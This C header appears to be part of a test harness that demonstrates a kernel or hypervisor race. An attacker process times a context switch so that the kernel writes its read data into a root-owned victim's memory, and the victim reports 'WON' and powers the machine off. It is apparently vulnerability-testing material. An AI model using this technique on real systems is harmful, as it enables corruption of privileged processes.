// SPDX-License-Identifier: GPL-2.0-only
/*
 * other_tables.h - a program that goes on with the page tables of another program: in the midst of
 * a long read it gives way to one of its own that wakes up, and behind the switch the kernel writes
 * what it reads into the other one's memory, at that address. (Its own registers, and what a
 * sleeping call keeps beside them, it does not find there: they stand in memory of its own.)
 */
#pragma once
#include "attack.h"
#include <linux/uio.h>

#define MEMORY_SIZE (4 << 20) /* READS times that many random bytes take longer than the nap */
#define READS 64u
#define NAP_MILLISECONDS 400 /* the host may not run this processor for a while */
#define MEMORY_BYTE 0x5a
#define PAGES_CHANGED 4 /* among random bytes is the one that stood there, too */

static char memory[MEMORY_SIZE] __attribute__((aligned(4096)));
static long random_file;
static int pipe_ends[2];

static bool control(void)
{
	return is_ordinary();
}

static void fill_memory(void)
{
	for (int i = 0; i < MEMORY_SIZE; i++)
		memory[i] = MEMORY_BYTE;
}

/* Says that it is going to sleep, for the next while. */
static _Noreturn void nap(void)
{
	for (;;) {
		call3(__NR_write, pipe_ends[1], (long)memory, 1);
		sleep_milliseconds(NAP_MILLISECONDS);
	}
}

/* Before this program's tables are exchanged. */
static void start_rival(void)
{
	(void)own_cpu(1);
	random_file = call3(__NR_open, (long)"/dev/urandom", O_RDONLY, 0);
	call1(__NR_pipe, (long)pipe_ends);
	if (fork_program() == 0)
		nap();
	fill_memory(); /* behind fork: no page is shared, none has to be copied later */
}

/* Puts VALUE at PLACE when the rival has just gone to sleep: the next switch is in the read. */
static _Noreturn void run_on_other_tables(uint64_t place, uint64_t value)
{
	static struct iovec parts[READS];
	char said[64];

	for (unsigned int i = 0; i < READS; i++)
		parts[i] = (struct iovec){ memory, MEMORY_SIZE };
	do
		sleep_milliseconds(1);
	while (call3(__NR_read, pipe_ends[0], (long)said, sizeof(said)) > 1);
	poke(place, value);
	call3(__NR_readv, random_file, (long)parts, READS);
	for (;;)
		__asm__ volatile("pause");
}

static int pages_changed(void)
{
	int changed = 0;

	for (int i = 0; i < MEMORY_SIZE; i += PAGE)
		changed += *(volatile char *)&memory[i] != MEMORY_BYTE;
	return changed;
}

/* Root's program, which nobody else writes to. */
static void victim(void)
{
	/* Not where the attacker runs: between two tasks of one space no tables are loaded. */
	(void)own_cpu(0);
	fill_memory();
	victim_round();
	while (pages_changed() < PAGES_CHANGED)
		sleep_milliseconds(1);
	say_result("WON");
	for (;;)
		call4(__NR_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
		      LINUX_REBOOT_CMD_POWER_OFF, 0);
}
